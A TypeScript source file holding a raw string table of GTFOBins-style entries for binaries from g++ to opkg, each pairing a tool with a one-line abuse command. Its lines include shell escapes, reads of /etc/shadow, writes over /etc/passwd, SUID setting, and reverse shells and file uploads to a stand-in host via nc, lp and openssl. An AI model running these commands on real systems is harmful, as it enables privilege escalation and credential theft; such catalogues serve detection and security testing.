/** See gtfobins-a-f.ts. */
export const gtfobinsGToO = String.raw`
g++ shell g++ -wrapper /bin/sh,-s .
gawk shell gawk 'BEGIN {system("/bin/sh")}'
gawk write gawk 'BEGIN { print "DATA" > "f" }'
gawk read gawk // /etc/shadow
gcc shell gcc -wrapper /bin/sh,-s .
gcc read gcc -x c -E /etc/shadow
gcc write gcc -xc /dev/null -o f
gcloud shell gcloud help
gcore read gcore 1
gdb shell gdb -nx -ex '!sh' -ex quit
gdb library-load gdb -nx -ex 'call (void*)dlopen("./x.so",1)'
gem shell gem open -e "/bin/sh -c sh" rdoc
genie shell genie -c /bin/sh
genisoimage read genisoimage -q -o - /etc/shadow
getent read getent -s f shadow
ghc shell ghc -e 'System.Process.callCommand "/bin/sh"'
ghci shell ghci
gimp shell gimp -idf --batch-interpreter=python-fu-eval -b 'x'
ginsh shell ginsh
git shell git help config
git shell git branch --help config
git shell git -p help
git read git diff /dev/null /etc/shadow
git write git apply --unsafe-paths x.patch
git shell git -c core.pager=/bin/sh -p log
git shell git grep --open-files-in-pager='/bin/sh;' x
git command git commit --allow-empty -m x
gnuplot shell gnuplot -e 'system("/bin/sh 1>&0")'
go shell go run x.go
go shell go test -exec /bin/sh
grc shell grc --pty /bin/sh
grep read grep '' /etc/shadow
gtester shell gtester -q ./x
gtester write gtester "DATA" -o f
guile shell guile -c '(system "/bin/sh")'
gzip read gzip -f /etc/shadow -t
gzip read gzip -c /etc/shadow
hashcat write hashcat --outfile f -m 0 h w
hd read hd /etc/shadow
head read head -c1G /etc/shadow
hexdump read hexdump -C /etc/shadow
hg shell hg --config alias.x='!/bin/sh' x
highlight read highlight --no-doc --failsafe /etc/shadow
hping3 shell hping3
iconv read iconv -f 8859_1 -t 8859_1 /etc/shadow
iconv write iconv -f 8859_1 -t 8859_1 -o f
iftop shell iftop
install suid install -m 6777 f g
ionice shell ionice /bin/sh
ip read ip -force -batch /etc/shadow
ip shell ip netns exec foo /bin/sh
iptables-save write iptables-save -f f
irb shell irb
ispell shell ispell /etc/passwd
java shell java -cp . X
jjs shell jjs
joe shell joe
join read join -a 2 /dev/null /etc/shadow
journalctl shell journalctl
jq read jq -Rr . /etc/shadow
jrunscript shell jrunscript -e "exec('/bin/sh')"
jshell shell jshell
jtag shell jtag --interactive
julia shell julia -e 'run(/bin/sh)'
knife shell knife exec -E 'exec "/bin/sh"'
ksh shell ksh -p
ksshell read ksshell -i /etc/shadow
ksu shell ksu -q -e /bin/sh
kubectl upload kubectl proxy --address=0.0.0.0 --port=4444 --www=. --www-prefix=/x/
kubectl shell kubectl get pods --kubeconfig=x
last read last -f /etc/shadow
lastb read lastb -f /etc/shadow
latex shell latex --shell-escape '\immediate\write18{/bin/sh}'
latexmk shell latexmk -pdf -pdflatex='/bin/sh #%O' x
ld.so shell ld.so /bin/sh
ldconfig shell ldconfig -f ./x
less shell less /etc/profile
less read less /etc/shadow
less write less -o f /dev/null
lftp shell lftp -c '!/bin/sh'
links read links /etc/shadow
ln write ln -fs /bin/sh /bin/ln
loginctl shell loginctl user-status
logrotate shell logrotate -l ./x f
logsave shell logsave /dev/null /bin/sh -i
look read look '' /etc/shadow
lp upload lp /etc/shadow -h x.example
ltrace shell ltrace -b -L /bin/sh
ltrace write ltrace -s 999 -o f ltrace -F DATA
lua shell lua -e 'os.execute("/bin/sh")'
lualatex shell lualatex -shell-escape x
luatex shell luatex -shell-escape x
lwp-download read lwp-download "file:///etc/shadow" x
lwp-request read lwp-request "file:///etc/shadow"
lxd shell lxd init
m4 shell m4 x
m4 read m4 /etc/shadow
mail shell mail --exec='!/bin/sh'
make shell make -s --eval='x:|sh'
make write make -s --eval="x:;echo DATA > f"
man shell man man
man read man /etc/shadow
mawk shell mawk 'BEGIN {system("/bin/sh")}'
mawk read mawk // /etc/shadow
minicom shell minicom -D /dev/null
more shell more /etc/profile
mosh-server shell mosh-server new /bin/sh
mosquitto read mosquitto -c /etc/shadow
mount shell mount -o bind /bin/sh /bin/mount
msfconsole shell msfconsole
msgattrib read msgattrib -P /etc/shadow
msgcat read msgcat -P /etc/shadow
msgconv read msgconv -P /etc/shadow
msgfilter shell msgfilter -P /bin/sh -c '/bin/sh 0<&2 1>&2; kill $PPID'
msgmerge read msgmerge -P /etc/shadow /dev/null
msguniq read msguniq -P /etc/shadow
mtr read mtr --raw -F /etc/shadow
multitime shell multitime /bin/sh
mutt read mutt -F /etc/shadow
mv write mv f /etc/passwd
mypy read mypy /etc/shadow
mysql shell mysql -e '\! /bin/sh'
mysql library-load mysql --default-auth ./x
nano shell nano -s /bin/sh
nano write nano f
nasm read nasm -@ /etc/shadow
nawk shell nawk 'BEGIN {system("/bin/sh")}'
nc reverse-shell nc -e /bin/sh x.example 1
nc upload nc x.example 1 < /etc/shadow
ncdu shell ncdu
ncftp shell ncftp
needrestart shell needrestart -c ./x
neofetch shell neofetch --config ./x
nft read nft -f /etc/shadow
nginx read nginx -t -c /etc/shadow
nice shell nice /bin/sh
nl read nl -bn -w1 -s '' /etc/shadow
nm read nm @/etc/shadow
nmap shell nmap --script=./x
nmap write nmap -oG=f DATA
node shell node -e 'require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})'
node write node -e 'require("fs").writeFileSync("f", "DATA")'
nohup shell nohup /bin/sh -c sh
npm shell npm exec /bin/sh
nroff shell nroff x
nsenter shell nsenter /bin/sh
ntpdate read ntpdate -a x -k /etc/shadow -d localhost
nvim shell nvim -c ':!/bin/sh'
octave shell octave-cli --eval 'system("/bin/sh")'
octave shell octave --eval 'system("/bin/sh")'
od read od -An -c -w9999 /etc/shadow
opencode shell opencode run id
openssl read openssl enc -in /etc/shadow
openssl write openssl enc -out f
openssl library-load openssl req -engine ./lib.so
openssl reverse-shell openssl s_client -quiet -connect x:1
openvpn shell openvpn --dev null --script-security 2 --up '/bin/sh -c sh'
openvpn read openvpn --config /etc/shadow
openvt shell openvt -- ./x
opkg shell opkg install x.ipk
`;
